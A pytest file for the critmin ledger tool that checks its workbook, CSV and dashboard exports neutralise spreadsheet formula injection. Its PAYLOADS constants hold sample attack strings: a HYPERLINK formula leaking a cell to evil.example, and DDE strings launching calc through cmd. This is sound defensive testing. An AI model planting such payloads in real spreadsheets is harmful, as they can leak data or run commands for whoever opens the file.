"""Exports never turn ledger text into live formulas or links (critmin.spreadsheet), and numbers stay numbers.

A ledger whose description and supplier cells hold formula payloads goes through every export: the
exposure workbook and CSV of `critmin exposure`, and the report workbook as the dashboard serves it.
"""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from critmin.cli.app import app as cli
from critmin.ledger.samples import sample_path
from critmin.spreadsheet import WORKBOOK_OPTIONS, csv_text, needs_escape, neutralise, neutralise_frame
from critmin.web.app import create_app
from critmin.web.settings import WebSettings

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
PAYLOADS = {
    "Description": [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r@SUM(1+1)"],
    "Manufacturer": [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "＝1+1", "-supplier", "+supplier"],
}
AS_OF = "2027-01-01"


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample ledger with formula payloads in the first lines' description and manufacturer."""
    frame = pl.read_csv(sample_path("defense_prime_ledger.csv"), infer_schema=False)
    for column, values in PAYLOADS.items():
        cells = values + frame[column].to_list()[len(values) :]
        frame = frame.with_columns(pl.Series(column, cells, dtype=pl.String))
    path = tmp_path_factory.mktemp("poisoned") / "poisoned.csv"
    frame.write_csv(path)
    return path


def test_the_rules() -> None:
    for text in ("=1+1", "+a", "-a", "@a", "\tx", "\rx", "＝1", "=x"):
        assert needs_escape(text) and neutralise(text) == "'" + text, text
    for text in ("-12.5", "+3", "1e-3", "-.5", "ok", "", "a=b", "'already"):
        assert neutralise(text) == text, text
    frame = pl.DataFrame(
        {"text": ["=1", "fine"], "number": [-1.5, 2.0], "cat": ["@x", "y"]},
        schema_overrides={"cat": pl.Categorical},
    )
    safe = neutralise_frame(frame)
    assert safe["text"].to_list() == ["'=1", "fine"] and safe["cat"].to_list() == ["'@x", "y"]
    assert safe["number"].dtype == pl.Float64 and safe["number"].to_list() == [-1.5, 2.0]
    assert csv_text(frame).splitlines()[1] == "'=1,-1.5,'@x"
    assert WORKBOOK_OPTIONS["strings_to_formulas"] is False and WORKBOOK_OPTIONS["strings_to_urls"] is False


def cells(book: openpyxl.Workbook) -> list[openpyxl.cell.Cell]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(book: openpyxl.Workbook, *kept: str) -> None:
    """No formula and no link in the workbook except http(s) links critmin wrote on purpose; the payloads
    ``kept`` are there as the text they are."""
    found = cells(book)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    links = [c.hyperlink.target for c in found if c.hyperlink is not None]
    assert all(str(t).startswith(("https://", "http://")) for t in links), links
    texts = {c.value for c in found if isinstance(c.value, str)}
    assert set(kept) <= texts


def test_exposure_workbook(poisoned: Path, tmp_path: Path) -> None:
    out = tmp_path / "exposure.xlsx"
    result = CliRunner().invoke(
        cli,
        ["exposure", str(poisoned), "--as-of", AS_OF, "--format", "xlsx", "--out", str(out), "--no-record"],
    )
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    assert_inert(book, *PAYLOADS["Manufacturer"])  # the Lines sheet carries the supplier
    lines = book["Lines"]
    header = [c.value for c in lines[1]]
    values = lines.cell(row=2, column=header.index("customs_value_usd") + 1)
    assert values.data_type == "n" and isinstance(values.value, float | int)


def test_exposure_csv(poisoned: Path, tmp_path: Path) -> None:
    out = tmp_path / "exposure.csv"
    result = CliRunner().invoke(
        cli,
        ["exposure", str(poisoned), "--as-of", AS_OF, "--format", "csv", "--out", str(out), "--no-record"],
    )
    assert result.exit_code == 0, result.output
    frame = pl.read_csv(out, infer_schema_length=None)
    suppliers = frame["supplier"].to_list()
    assert {"'" + s for s in PAYLOADS["Manufacturer"]} <= set(suppliers)
    for column, dtype in frame.schema.items():
        if dtype == pl.String:
            assert not [v for v in frame[column].to_list() if v and needs_escape(v)], column
    assert frame["customs_value_usd"].dtype == pl.Float64  # numbers stay numbers
    assert frame["customs_value_usd"].min() > 0


def test_report_workbook_downloaded_from_the_dashboard(poisoned: Path, tmp_path: Path) -> None:
    settings = WebSettings(workspace=tmp_path / "ws.duckdb", draws=0, allowed_hosts=("testserver",))
    with TestClient(create_app(settings)) as client:
        upload = client.post(
            "/api/v1/ledgers",
            files={"file": ("poisoned.csv", poisoned.read_bytes(), "text/csv")},
            headers={"Authorization": "Bearer local"},
        )
        assert upload.status_code == 200, upload.text
        response = client.get("/api/v1/report/xlsx", params={"ledger": 1, "as_of": AS_OF})
        assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    numbers = [c for c in cells(book) if c.data_type == "n" and c.value is not None]
    assert len(numbers) > 100
    assert_inert(book, HYPERLINK, "=1+1")  # e.g. on the sheet of duty by supplier
